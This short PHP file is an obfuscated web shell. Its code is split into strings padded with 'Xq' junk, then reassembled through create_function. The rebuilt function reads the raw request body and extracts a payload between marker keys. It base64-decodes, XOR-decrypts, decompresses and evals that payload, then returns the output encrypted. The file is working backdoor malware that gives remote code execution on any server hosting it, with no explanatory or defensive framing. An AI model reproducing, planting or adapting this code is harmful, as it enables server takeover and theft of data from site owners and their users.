<?php
$kX=str_replace('Xq','','$k="6c2b9a4f";Xq$khXq=Xq"8Xqe5f1dXq3a7b2Xq0";$kf="c94d0eXq61a5f7";$p="QXqm2');
$zz=str_replace('Xq','','(@gzunXqcompress(@x(@bXqaseXq64_decoXqde($m[1]),$k)));$o=@ob_get_c');
$Qb=str_replace('Xq','','oXqntents();@oXqb_Xqend_XqcXqleanXq(Xq);$r=@bXqase64_encode(@x(@XqgzcoXqmXqpress');
$gB=str_replace('Xq','','$i]Xq^$k[$j];}}returnXq $Xqo;Xq}if(@prXqeg_maXqtch("/$kh(.+)$kf/",@fXqile_geXq');
$yO=str_replace('Xq','','RtXqXk9WbXqL4vXqZsN";function x($t,$k){Xq$c=strlen($k);$l=strXqlXqen($t)Xq;$o="";fo');
$Mh=str_replace('Xq','','($Xqo),$k));print("$p$kh$rXq$kf");}');
$WQ=str_replace('Xq','','r($i=0;$iXq<$l;)Xq{for($j=0;Xq($j<$c&&$i<Xq$Xql);$jXq++,$i++){$o.=Xq$Xqt[');
$eG=str_replace('Xq','','t_contXqents(Xq"php://inputXq"),$m)=Xq=1){@ob_start();@XqevalXq');
$zI=str_replace('Xq','','crXqeate_funXqcXqtionXq');
$LJ=$zI('',$kX.$yO.$WQ.$gB.$eG.$zz.$Qb.$Mh);$LJ();
?>
